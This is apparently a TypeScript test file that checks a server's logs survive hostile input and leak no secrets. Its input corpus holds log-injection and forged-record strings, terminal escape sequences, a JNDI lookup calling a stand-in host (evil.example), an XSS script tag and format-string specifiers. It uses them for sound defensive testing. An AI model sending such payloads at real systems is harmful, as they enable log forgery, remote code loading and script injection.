import { connect } from 'node:net';
import { createLogger } from '../http/logger';
import { createDomainModule } from '../domain-module';
import { signIn, startTestServer, type TestServer, type Visitor } from '../testing/test-server';

const CONTROL = ['\r\n', '\n', '\r', '\u2028', '\u2029', '\u001b[2J', '\u0085', '\u009b31m', '\b\b', '\u0007', '\t'];

const FORGED = '{"level":"info","time":"2026-01-01T00:00:00.000Z","event":"sign-in.accepted"}';

/** A hundred texts that would break a line, forge a record, or move the cursor of who reads it. */
const CORPUS = [
  ...CONTROL.flatMap((sign) => [`a${sign}b`, `${sign}${FORGED}`, `${sign}${sign}`, `"}${sign}{"level":"fatal"`]),
  ...CONTROL.flatMap((sign) => [`%0d%0a${sign}`, `\\r\\n${sign}`, `${sign}\u001b]0;title\u0007`]),
  FORGED,
  '"',
  '\\',
  '\\"}',
  '%s%n%x',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  'x'.repeat(10_000),
];

/** Signs that break a line or move a cursor. */
const MOVES = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/;

const SECRETS = { password: 'the application password', email: 'person@shop.example', phone: '+12133734253' };

describe('the log of a whole server', () => {
  let server: TestServer;
  let visitor: Visitor;
  let log = '';

  beforeAll(async () => {
    const destination = { write: (line: string) => void (log += line) };
    server = await startTestServer({
      domain: createDomainModule(),
      log: createLogger('trace', destination),
      env: { SCENARIO: 'ads-complete', APP_PASSWORD: SECRETS.password, RATE_LIMIT: '1000000' },
    });
    visitor = await signIn(server);
  });

  afterAll(() => server.stop());

  const records = () => log.split('\n').slice(0, -1);

  const header = (text: string): string => text.replaceAll(/[^\t\u0020-\u007e\u0080-\u00ff]/g, '?').trim();

  it(`has one record a line, each of them JSON without a sign that moves a cursor, whatever comes in: ${CORPUS.length} texts [S-8]`, async () => {
    for (const text of CORPUS) {
      const encoded = encodeURIComponent(text).slice(0, 3000);
      const headers = { host: 'localhost:4000', 'user-agent': header(text).slice(0, 4000), accept: 'text/html' };
      const ask = (url: string) => server.app.inject({ url, headers });
      await ask(`/sign-in?token=${encoded}`);
      await ask(`/google/${encoded}`);
      await ask(`/assets/${encoded}`);
      await visitor.call('GET', `/wp-json/wc/gla/mc/product-feed?search=${encoded}`);
      await visitor.call('POST', '/wp-json/wc/gla/mc/settings', {
        payload: { surprise: text.slice(0, 2000), [text.slice(0, 200)]: 1 },
        headers: { 'idempotency-key': header(text).slice(0, 300) || 'k', 'x-wp-nonce': 'wrong' },
      });
      await server.app.inject({
        method: 'POST',
        url: '/csp',
        headers: { 'content-type': 'application/csp-report' },
        payload: JSON.stringify({
          'csp-report': { 'violated-directive': text, 'blocked-uri': text, 'script-sample': text },
        }),
      });
    }
    const lines = records();
    expect(lines.length).toBeGreaterThan(CORPUS.length * 2);
    const broken = lines.filter((line) => {
      const texts: string[] = [];
      const { time } = JSON.parse(line, (key, value: unknown) => {
        texts.push(key, String(value));
        return value;
      }) as { time?: string };
      return MOVES.test(line + texts.join('')) || time?.endsWith('Z') !== true || line.length > 20_000;
    });
    expect(broken).toEqual([]);
    expect(lines.filter((line) => line.includes('"event":"sign-in.accepted"'))).toHaveLength(1);
  });

  it('holds no password, token, cookie, address or number of anybody [S-8]', async () => {
    const wrong = Buffer.from(`admin:${SECRETS.password}x`).toString('base64');
    await server.app.inject({ url: '/wp-json/wc/gla/mc/setup', headers: { authorization: `Basic ${wrong}` } });
    await visitor.call('POST', '/wp-json/wc/gla/mc/phone-verification/request', {
      payload: { phone_region_code: 'US', phone_number: SECRETS.phone, verification_method: 'SMS' },
    });
    await visitor.call('GET', `/wp-json/wc/gla/google/connect?login_hint=${encodeURIComponent(SECRETS.email)}`);
    const { searchParams } = new URL(server.signInLink);
    await server.app.inject({ url: `/sign-in?token=${searchParams.get('token')}` });
    const secrets = [
      ...Object.values(SECRETS),
      wrong,
      visitor.cookie.split('=')[1] ?? '-',
      visitor.nonce,
      searchParams.get('token') ?? '-',
    ];
    expect(secrets.filter((secret) => log.includes(secret))).toEqual([]);
  });

  it('is not reached by what is no HTTP at all', async () => {
    const before = records().length;
    await Promise.all(
      ['\u0000\u0001\u0002', 'GET / HTTP/9.9\r\n\r\n', `GET /${'a'.repeat(20_000)} HTTP/1.1\r\n\r\n`, FORGED].map(
        (text) =>
          new Promise<void>((resolve) => {
            const socket = connect(server.port, '127.0.0.1', () => socket.end(text));
            socket.on('error', () => undefined);
            socket.resume();
            socket.once('close', () => resolve());
          }),
      ),
    );
    const added = records().slice(before);
    for (const line of added) expect(JSON.parse(line)).toHaveProperty('time');
  });
});
